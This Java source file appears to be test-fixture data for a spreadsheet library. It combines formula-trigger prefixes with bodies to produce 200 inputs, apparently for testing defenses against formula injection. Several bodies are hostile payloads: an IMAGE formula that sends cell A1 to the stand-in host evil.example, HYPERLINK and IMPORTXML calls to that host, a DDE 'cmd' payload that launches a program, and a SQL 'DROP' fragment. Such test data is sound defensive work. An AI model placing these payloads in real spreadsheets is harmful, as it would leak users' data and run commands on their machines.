package dev.leash.sheets.workbook;

import java.util.List;

/** Texts that a spreadsheet would take for formulas, numbers, times or truths. */
public final class Formulas {

    private static final List<String> BEGINNINGS =
            List.of("=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", "'=");

    private static final List<String> BODIES =
            List.of(
                    "1+1",
                    "HYPERLINK(\"https://evil.example\", \"click\")",
                    "IMPORTXML(\"https://evil.example\", \"//a\")",
                    "IMAGE(\"https://evil.example/?\"&A1)",
                    "cmd|' /C calc'!A0",
                    "SUM(A1:A9)",
                    "15550100001",
                    "1e9",
                    "TRUE",
                    "11/21/2026 14:05",
                    "\"; DROP",
                    "A1",
                    "",
                    "=1",
                    "'x'",
                    "a\"b",
                    "QUERY(A:A, \"select *\")",
                    "0",
                    "GOOGLEFINANCE(\"X\")",
                    "über");

    /** Every beginning with every body. */
    public static final List<String> TWO_HUNDRED =
            BEGINNINGS.stream()
                    .flatMap(beginning -> BODIES.stream().map(body -> beginning + body))
                    .toList();

    private Formulas() {}
}
